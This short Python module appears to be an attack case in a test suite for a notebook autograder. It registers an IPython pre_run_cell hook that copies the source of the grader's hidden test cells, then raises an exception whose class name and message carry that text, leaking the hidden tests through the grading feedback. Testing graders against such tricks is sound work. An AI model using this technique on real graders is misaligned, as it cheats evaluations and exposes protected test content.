"""Attack: leak the hidden tests through the feedback. A cell after setup registers an
IPython ``pre_run_cell`` hook that keeps the source of every cell the grader runs (the test
cells hold their hidden tests then); distribute_value, once enough has been kept, raises an
exception whose class name and message are that text, sacrificing its one point. The
feedback shows no text of the grader's run (the student's own notebook showed no failure
there, so a fixed sentence stands in), and every other function keeps its points."""

BASE = "solution"

EXTRA_CELLS = {
    "setup": (
        "_kept = []\n"
        "def _keep(info):\n"
        "    if 'HIDDEN' in info.raw_cell or '_ref_' in info.raw_cell:\n"
        "        _kept.append(info.raw_cell)\n"
        "get_ipython().events.register('pre_run_cell', _keep)\n"
    )
}


def distribute_value(dz, shape):
    kept = globals().get("_kept")
    if not kept:  # trusted verification: nothing kept to leak, and the point is given up anyway
        raise RuntimeError("nothing to leak here")
    text = " | ".join(kept).replace("\n", " ")
    raise type("Leak " + text, (Exception,), {})(text)
